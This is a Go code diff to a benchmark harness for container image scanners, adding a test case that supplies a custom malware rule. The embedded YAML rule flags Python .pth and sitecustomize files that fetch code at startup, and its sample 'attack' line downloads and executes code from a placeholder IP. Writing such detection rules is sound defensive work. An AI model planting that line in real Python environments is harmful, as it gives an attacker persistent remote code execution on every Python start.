@@ -2,6 +2,7 @@ package main
 
 import (
 	"context"
+	"os"
 	"os/exec"
 	"path/filepath"
 	"strings"
@@ -26,6 +27,7 @@ type benchCase struct {
 	alone  bool   // of interest for esclusa and tools with a cache of layers
 	// decoders: not scanners are compared, but what unpacks their layers.
 	decoders bool
+	rules    string // a folder of rules for malware that the cache does not know
 }
 
 func (b *bench) cases() []benchCase {
@@ -35,6 +37,7 @@ func (b *bench) cases() []benchCase {
 		{name: "everything, cold", image: at(largeImage), mode: everything},
 		{name: "nothing changed", image: at(largeImage), mode: everything, cached: true, before: at(largeImage)},
 		{name: "one of six layers changed", image: at(changedImage), mode: everything, cached: true, before: at(largeImage)},
+		{name: "a rule was added", image: at(largeImage), mode: everything, cached: true, before: at(largeImage), alone: true, rules: at(rulesFolder)},
 		{name: "one static Go binary", image: at(goImage), mode: packages},
 		{name: "Debian minimal", image: at(debianImage), mode: packages},
 		{name: "3,000,000 empty files", image: at(emptyImage), mode: everything, alone: true},
@@ -73,7 +76,38 @@ func (t *tool) args(c benchCase) []string {
 	if args != nil && !c.cached {
 		args = append(args, t.cold...)
 	}
+	if c.rules != "" {
+		args = append(args, "--malware-rules", c.rules)
+	}
 	return args
+}
+
+const rulesFolder = "rules"
+
+// addedRule is a rule as a team writes it on the day after an incident: code
+// that runs whenever Python starts.
+const addedRule = `
+- id: python-start
+  title: Python runs a download at each start
+  severity: high
+  why: Files of these names are run by every Python process, whatever it was started for.
+  file: {type: text, paths: ['**/*.pth', '**/sitecustomize.py', '**/usercustomize.py']}
+  strings:
+    import: {text: 'import '}
+    fetch: {regexp: 'urlopen|requests\.get|socket\.connect', near: import}
+  condition: fetch
+  path: usr/lib/python3/dist-packages/a.pth
+  attack: 'import urllib.request; exec(urllib.request.urlopen("http://198.51.100.7/a").read())'
+  benign: 'import site; site.addsitedir("/opt/lib")'
+`
+
+// writeRules writes the folder of the case.
+func (b *bench) writeRules() error {
+	dir := filepath.Join(b.dir, rulesFolder)
+	if err := os.MkdirAll(dir, 0o700); err != nil {
+		return err
+	}
+	return os.WriteFile(filepath.Join(dir, "added.yaml"), []byte(addedRule), 0o600)
 }
 
 func esclusaTool(bin, cache string) tool {
